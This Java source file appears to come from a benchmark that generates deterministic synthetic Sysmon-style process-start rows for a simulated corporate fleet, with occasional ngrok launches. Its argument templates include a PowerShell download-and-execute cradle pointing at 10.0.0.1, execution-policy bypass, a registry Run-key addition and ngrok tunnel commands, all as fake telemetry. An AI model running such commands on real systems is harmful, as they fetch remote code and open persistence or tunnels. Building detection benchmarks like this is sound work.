package dev.karst.bench;

import java.io.BufferedWriter;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.util.List;
import java.util.Locale;
import java.util.SplittableRandom;

/**
 * Makes rows of Endpoint.Processes: a month of process starts on 1,200 machines. A few programs
 * start most often, and most command lines occur once; guids are unique; one start in twelve
 * thousand is ngrok's. The same number of rows gives the same bytes everywhere.
 */
final class BenchRows {
  private static final long SEED = 20240501;
  private static final long START = 1_714_521_600;
  private static final double DAYS = 30 * 86_400.0;
  private static final int MACHINES = 1200;
  private static final int PROGRAMS = 4000;
  private static final int ONE_IN = 12_000;
  private static final List<String> KNOWN =
      List.of(
          "svchost.exe",
          "chrome.exe",
          "cmd.exe",
          "powershell.exe",
          "conhost.exe",
          "rundll32.exe",
          "bash",
          "curl",
          "python3",
          "sshd",
          "java",
          "reg.exe",
          "schtasks.exe",
          "vssadmin.exe");
  private static final List<String> ARGUMENTS =
      List.of(
          "-k netsvcs -p -s %d",
          "--type=renderer --client-id=%x",
          "/c dir C:\\Users\\%d",
          "-NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\job%x.ps1",
          "-EncodedCommand %xAAB",
          "-c \"IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.1/%x')\"",
          "--config /etc/app/conf.d/%x",
          "add HKLM\\Software\\Vendor\\%x /v Run /t REG_SZ",
          "/delete /tn job%x /f",
          "https://host/api/v2/items/%d",
          "-i input.dat -o output%x.dat",
          "start --instance %d");
  private static final List<String> NGROK =
      List.of(
          "http %d", "tcp 22", "start --all", "config add-authtoken %x", "--config=/root/%x.yml");

  private final SplittableRandom random = new SplittableRandom(SEED);

  private BenchRows() {}

  /** Writes a CSV file of so many rows, oldest first. */
  static void write(Path csv, long rows) throws IOException {
    Path partial = csv.resolveSibling(csv.getFileName() + ".partial");
    BenchRows made = new BenchRows();
    try (BufferedWriter out = Files.newBufferedWriter(partial)) {
      out.write("_time," + String.join(",", BenchQuery.FIELDS) + "\n");
      for (long row = 0; row < rows; row++) {
        out.write(made.row(START + DAYS * row / rows));
      }
    }
    Files.move(partial, csv, StandardCopyOption.REPLACE_EXISTING);
  }

  /** Small numbers far more often than large ones. */
  private int skewed(int below) {
    double uniform = random.nextDouble();
    return (int) (below * uniform * uniform * uniform);
  }

  private String program() {
    int number = skewed(PROGRAMS);
    return number < KNOWN.size() ? KNOWN.get(number) : "app" + number + ".exe";
  }

  private String commandLine(String path, List<String> arguments) {
    // A third of the command lines come again and again.
    long number = random.nextInt(3) == 0 ? random.nextInt(20) : random.nextLong() >>> 16;
    String form = arguments.get(skewed(arguments.size()));
    return path + ' ' + String.format(Locale.ROOT, form, number);
  }

  private String guid() {
    return String.format("{%016X-%016X}", random.nextLong(), random.nextLong());
  }

  private String row(double time) {
    boolean ngrok = random.nextInt(ONE_IN) == 0;
    int machine = skewed(MACHINES);
    int user = random.nextInt(300);
    String name = ngrok ? "ngrok" : program();
    String parent = program();
    String path = ngrok ? "/usr/local/bin/ngrok" : "C:\\Windows\\System32\\" + name;
    String parentPath = "C:\\Program Files\\" + parent;
    List<String> values =
        List.of(
            "allowed",
            String.format("host-%04d.corp.example.com", machine),
            name.toUpperCase(Locale.ROOT),
            commandLine(parentPath, ARGUMENTS),
            parent,
            guid(),
            Integer.toString(4 * random.nextInt(16_384)),
            parent,
            parentPath,
            commandLine(path, ngrok ? NGROK : ARGUMENTS),
            name,
            guid(),
            String.format("MD5=%032X", name.hashCode() * 0x9E3779B97F4A7C15L),
            Integer.toString(4 * random.nextInt(16_384)),
            random.nextInt(4) == 0 ? "high" : "medium",
            name,
            path,
            String.format("CORP\\user%04d", user),
            "S-1-5-21-" + user,
            "Sysmon");
    StringBuilder out = new StringBuilder(String.format(Locale.ROOT, "%.3f", time));
    for (String value : values) {
      out.append(",\"").append(value.replace("\"", "\"\"")).append('"');
    }
    return out.append('\n').toString();
  }
}
